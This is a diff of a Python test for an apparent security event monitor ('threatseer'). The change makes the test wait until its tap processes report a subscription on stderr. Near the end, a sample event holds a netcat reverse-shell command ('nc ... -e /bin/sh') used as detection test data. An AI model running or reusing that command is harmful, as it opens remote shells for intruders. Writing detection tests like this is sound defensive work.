@@ -9,6 +9,7 @@ import pty
 import re
 import select
 import subprocess
+import tempfile
 import time
 from pathlib import Path
 from typing import Any
@@ -56,17 +57,22 @@ class Tap:
     def __init__(self, cmd: list[str], *args: str, tty: bool = False,
                  env: dict[str, str] | None = None) -> None:
         self.master = None
+        self.stderr = tempfile.TemporaryFile()  # noqa: SIM115 (closed in stop)
         if tty:
             self.master, slave = pty.openpty()
             out: Any = slave
         else:
             out = subprocess.PIPE
-        self.proc = subprocess.Popen([*cmd, "tap", *args], stdout=out,
-                                     stderr=subprocess.DEVNULL,
+        self.proc = subprocess.Popen([*cmd, "tap", *args], stdout=out, stderr=self.stderr,
                                      env={**os.environ, **(env or {})})
         if tty:
             os.close(slave)
         self.buf = b""
+
+    def subscribed(self) -> bool:
+        """Whether the tap has said it subscribed (on stderr)."""
+        self.stderr.seek(0)
+        return b"tap: subscribed" in self.stderr.read()
 
     def read(self, quiet_s: float = 1.0) -> list[str]:
         fd = self.master if self.master is not None else self.proc.stdout.fileno()
@@ -94,6 +100,7 @@ class Tap:
             self.proc.wait()
         if self.master is not None:
             os.close(self.master)
+        self.stderr.close()
 
 
 def test_tap_filters_time_and_colour(tmp_path: Path, threatseer_cmd: list[str]) -> None:
@@ -120,7 +127,13 @@ def test_tap_filters_time_and_colour(tmp_path: Path, threatseer_cmd: list[str]) 
         sender = Sender(ctx, cfg["ingest"]["endpoint"], "tap-filters")
         sub = Subscriber(ctx, pub)
         wait_connected(sender, sub)
-        time.sleep(1.0)  # the tap processes subscribe too
+        # the tap processes subscribe too: each says so once connected (eight interpreters
+        # starting take seconds on a loaded machine), then the subscription reaches the hub
+        deadline = time.monotonic() + 60
+        while not all(tap.subscribed() for tap in taps.values()):
+            assert time.monotonic() < deadline, "a tap did not subscribe within 60 s"
+            time.sleep(0.1)
+        time.sleep(0.5)
         sender.send([
             exec_event("/usr/bin/ls", ["ls", "-l"]),  # web1, nothing fires
             exec_event("/usr/bin/nc", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh"],
